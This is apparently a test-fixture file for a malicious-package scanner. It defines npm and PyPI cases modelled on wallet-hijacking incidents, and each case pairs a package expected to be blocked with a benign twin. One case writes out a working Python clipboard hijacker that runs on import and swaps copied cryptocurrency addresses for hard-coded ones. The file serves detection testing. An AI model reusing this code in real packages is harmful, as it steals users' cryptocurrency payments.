import { disguisedJavaScript, javascriptIncident } from '../../support/incident-programs.ts'
import { type CaseProject, npm, type PackageCase, pypi, tarball, wheel, YOUNG } from '../../support/package-case.ts'

const chalk = `'use strict';
const styles = { red: [31, 39], green: [32, 39] };
function paint(name, text) { const [open, close] = styles[name]; return '\\u001b[' + open + 'm' + text + '\\u001b[' + close + 'm'; }
module.exports = { red: (text) => paint('red', text), green: (text) => paint('green', text) };
`
const hook = javascriptIncident('chalk and debug')

/** What the user of a page sends is sent to somebody else. */
export const obfuscatedWalletHooks: readonly PackageCase[] = [
  {
    id: 'chalk',
    incident:
      'chalk on npm, September 2025: an obfuscated block in front of the library replaces fetch, XMLHttpRequest and wallets',
    project: chalkWith('chalk', '5.6.1', `${disguisedJavaScript('string table', hook)};\n${chalk}`),
    expect: {
      verdict: 'block',
      story: 'replaces-addresses',
      text: /^On import, replaces fetch, XMLHttpRequest and ethereum/,
    },
    twin: chalkWith('chalk', '5.6.1', chalk.replace('green: [32, 39]', 'green: [32, 39], blue: [34, 39]')),
  },
  {
    id: 'debug',
    incident: 'debug on npm, September 2025: the same behind base64 and eval',
    project: chalkWith('debug', '4.4.2', `${chalk}${disguisedJavaScript('base64 and eval', hook)}`),
    expect: {
      verdict: 'block',
      story: 'replaces-addresses',
      text: /^On import, replaces fetch, XMLHttpRequest and ethereum/,
    },
    twin: chalkWith(
      'debug',
      '4.4.2',
      `${chalk}
exports.log = console.debug || console.log;
const wrapped = console.error;
exports.enable = (name) => { exports.name = name; };
exports.formatters = { j: (value) => { try { return JSON.stringify(value); } catch (error) { return String(error); } } };
`,
    ),
  },
  {
    id: 'backslash, minified',
    incident: 'the same, minified as a bundler leaves it',
    project: chalkWith('backslash', '0.2.1', `${disguisedJavaScript('minified', hook)};\n${chalk}`),
    expect: {
      verdict: 'block',
      story: 'replaces-addresses',
      text: /^On import, replaces fetch, XMLHttpRequest and ethereum and knows addresses of wallets/,
    },
    twin: chalkWith(
      'backslash',
      '0.2.1',
      disguisedJavaScript(
        'minified',
        `const original = globalThis.fetch;
const instrument = (report) => { globalThis.fetch = async (...given) => { const start = Date.now(); const answer = await original(...given); report(Date.now() - start); return answer; }; };
module.exports = { instrument: instrument };
`,
      ),
    ),
  },
  {
    id: 'a clipboard that changes',
    incident: 'clippers on PyPI, 2022 to 2026: an address in the clipboard is replaced by another',
    project: pypi(
      'pyperclip-tools',
      wheel('pyperclip-tools', '1.0.0', {
        'clip_tools/__init__.py': `import re, threading, time
import pyperclip
OWN = "0x${'ab12'.repeat(10)}"
BITCOIN = "bc1q${'xy2kgdygjrsqtzq2n0yrf249'.repeat(2).slice(0, 38)}"
def watch():
    while True:
        text = pyperclip.paste()
        if re.fullmatch(r"0x[a-fA-F0-9]{40}", text):
            pyperclip.copy(OWN)
        elif re.fullmatch(r"(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}", text):
            pyperclip.copy(BITCOIN)
        time.sleep(1)
threading.Thread(target=watch, daemon=True).start()
`,
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'replaces-addresses',
      text: /^On import, watches the clipboard and knows addresses of wallets to put in/,
    },
    twin: pypi(
      'clip-history',
      wheel('clip-history', '1.0.0', {
        'clip_history/__init__.py': `import pyperclip
class History:
    def __init__(self):
        self.items = []
    def take(self):
        text = pyperclip.paste()
        if text and (not self.items or self.items[-1] != text):
            self.items.append(text)
        return text
    def back(self):
        pyperclip.copy(self.items[-2])
`,
      }),
    ),
  },
]

function chalkWith(name: string, version: string, source: string): CaseProject {
  const release = (number: string, text: string) => tarball(name, number, { 'index.js': text }, { main: 'index.js' })
  return npm(name, release(version, source), { previous: release(version.replace(/\d+$/, '0'), chalk) })
}
